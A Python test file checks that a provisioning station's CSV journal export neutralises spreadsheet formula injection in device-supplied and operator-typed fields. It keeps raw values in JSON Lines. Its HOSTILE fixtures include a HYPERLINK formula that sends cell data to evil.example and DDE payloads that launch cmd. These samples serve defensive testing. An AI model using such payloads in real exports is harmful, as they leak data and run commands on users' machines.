"""CSV exports cannot carry a spreadsheet formula (issue #16.9).

A device decides its own serial, model, firmware and console text, and people type messages and
reasons; any of them may begin with `=`, `+`, `-`, `@`, a tab or a carriage return. In CSV such a
cell is written with a leading apostrophe, so Excel and LibreOffice show it as text; JSON Lines
keeps the raw value.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

from station.demo import DemoEnvironment
from station.journal import Journal
from station.journal.audit_query import AuditReader, write_events
from station.journal.csv_cells import FORMULA_STARTS, spreadsheet_safe
from station.journal.export import export_text
from station.profiles.base import StorageKind
from station.sandbox.sim import storage

HOSTILE = {
    "hardware_serial": '=HYPERLINK("http://evil.example/?"&A1,"SN1")',
    "model": "+cmd|' /C calc'!A0",
    "firmware": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _is_inert(cell: str) -> bool:
    return not cell.startswith(FORMULA_STARTS)


def test_every_formula_start_is_neutralised() -> None:
    for start in FORMULA_STARTS:
        text = f"{start}1+1"
        assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe("SN-1=2") == "SN-1=2"  # only the first character matters
    assert spreadsheet_safe("") == ""


def test_hostile_text_is_inert_in_csv_and_raw_in_jsonl(tmp_path: Path) -> None:
    path = tmp_path / "j.sqlite"
    hostile_message = "-2+3 the device said so"
    hostile_action = "\t=cmd|' /C calc'!A0"
    console = "=1+1\nboot"
    with Journal.open(path, station_id="s") as journal:
        attempt = journal.begin_attempt(
            slot="1",
            operator="@alice",
            target_name="line-a",
            realm="plant1",
            pairing_url="https://pairing.example.com",
        )
        journal.update_device(
            attempt,
            device_id="-dev",
            hardware_serial=HOSTILE["hardware_serial"],
            model=HOSTILE["model"],
            firmware=HOSTILE["firmware"],
            storage_kind="otp",
        )
        journal.finish_attempt(
            attempt,
            result="FAIL",
            error_class="timeout",
            message=hostile_message,
            action=hostile_action,
            console_excerpt=console,
        )
        journal.record_event("override", actor="=sam", details={"k": "v"}, reason="+1 rework")
    (row,) = list(csv.DictReader(io.StringIO(export_text(path, format="csv"), newline="")))
    raw = {
        **HOSTILE,
        "operator": "@alice",
        "device_id": "-dev",
        "message": hostile_message,
        "action": hostile_action,
        "console_excerpt": console,
    }
    for column, text in raw.items():
        assert row[column] == "'" + text, column
    assert all(_is_inert(cell) for cell in row.values()), row
    (record,) = [json.loads(line) for line in export_text(path, format="jsonl").splitlines()]
    for column, text in raw.items():
        assert record[column] == text, column

    with AuditReader.open(path) as reader:
        out = io.StringIO()
        write_events(reader.iter_events(), out, "csv")
    (event,) = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert (event["actor"], event["reason"]) == ("'=sam", "'+1 rework")


def test_a_hostile_simulated_device_cannot_plant_a_formula(tmp_path: Path) -> None:
    # A device whose own identity answers (as its firmware reports them over the real pty) are
    # hostile: its state is in place before the fixture starts it.
    workdir = tmp_path / "demo"
    hostile = storage.new_device("1", StorageKind.OTP, supplies_device_id=False)
    for field, text in HOSTILE.items():
        setattr(hostile, field, text)
    storage.save(storage.state_path(workdir / "fixture", "1"), hostile)
    with DemoEnvironment(workdir, slots=1, storage="otp", bcrypt_cost=4) as env:
        assert env.fixture is not None
        assert env.fixture.device("1").hardware_serial == HOSTILE["hardware_serial"]
        provision = subprocess.run(
            [
                sys.executable,
                "-m",
                "station",
                "provision",
                "--config",
                str(env.config_path),
                "--target",
                env.target_name,
                "--operator",
                "qa-test",
                "--json",
            ],
            capture_output=True,
            text=True,
            timeout=90,
            check=False,
        )
        assert provision.returncode == 0, provision.stdout + provision.stderr
        exported = subprocess.run(
            [
                sys.executable,
                "-m",
                "station",
                "journal",
                "export",
                "--journal",
                str(env.journal_path),
                "--format",
                "csv",
            ],
            capture_output=True,
            text=True,
            timeout=60,
            check=True,
        )
    (row,) = list(csv.DictReader(io.StringIO(exported.stdout, newline="")))
    for field, text in HOSTILE.items():
        assert row[field] == "'" + text, field
    assert all(_is_inert(cell) for cell in row.values()), row
